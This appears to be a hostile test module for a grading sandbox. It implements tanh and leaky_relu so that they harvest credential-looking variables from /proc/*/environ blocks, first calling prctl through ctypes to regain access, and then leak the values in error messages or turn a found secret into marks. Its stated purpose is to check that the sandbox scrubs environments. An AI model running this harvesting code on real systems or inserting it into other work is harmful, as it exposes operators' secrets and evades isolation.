"""Hostile (class 4, secrets in the environment, read raw): the module reads the environment blocks the kernel keeps, not os.environ: /proc/self/environ (the block the zygote was exec'd with, which clearing os.environ in the worker does not change; a worker that switched uid is not dumpable and cannot open it, so it first makes itself dumpable again with prctl(PR_SET_DUMPABLE, 1) through ctypes), /proc/PPID/environ of its ancestors and every other readable /proc/*/environ; tanh raises a RuntimeError listing every credential-looking entry found (TOKEN, SECRET, PASSWORD, API_KEY...) and leaky_relu answers correctly only if one was found (a leak turns into marks). After the fix the zygote itself starts with a scrubbed environment and no other process's environment is readable: tanh scores zero with nothing secret in its message and leaky_relu scores zero. tests/test_sandbox_secrets.py grades it with fake secrets in the grader's environment and asserts they never appear in the output and leaky_relu scores zero.

expect: tanh = 0 ~ RuntimeError|environ|ctypes
expect: leaky_relu = 0 ~ LookupError|no secret|ctypes
"""
import ctypes
import os
import re

import numpy as np

_SECRET_NAME = re.compile(rb"TOKEN|SECRET|PASSW|API_?KEY|CREDENTIAL|PRIVATE|AUTH", re.I)


def _blocks():
    try:  # after setuid the kernel makes /proc/self/* root's; being dumpable again gives it back
        ctypes.CDLL(None, use_errno=True).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, 1
    except (OSError, AttributeError):
        pass
    paths = ["/proc/self/environ"]
    pid = os.getpid()
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = int(re.search(r"^PPid:\s+(\d+)", fh.read(), re.M).group(1))
        except (OSError, AttributeError, ValueError):
            break
        if pid <= 0:
            break
        paths.append(f"/proc/{pid}/environ")
    try:
        paths += [f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for path in paths:
        try:
            with open(path, "rb") as fh:
                yield path, fh.read(1 << 20)
        except OSError:
            continue


def _secrets():
    found = {}
    for path, block in _blocks():
        for entry in block.split(b"\0"):
            name, _, value = entry.partition(b"=")
            if value and _SECRET_NAME.search(name):
                found.setdefault(name.decode(errors="replace"), f"{value.decode(errors='replace')} ({path})")
    return found


def tanh(x):
    raise RuntimeError(f"raw environ blocks leak: {_secrets()!r}")


def leaky_relu(x, alpha=0.01):
    if not _secrets():
        raise LookupError("no secret-looking entry in any readable environ block")
    return np.where(x > 0, x, alpha * x)
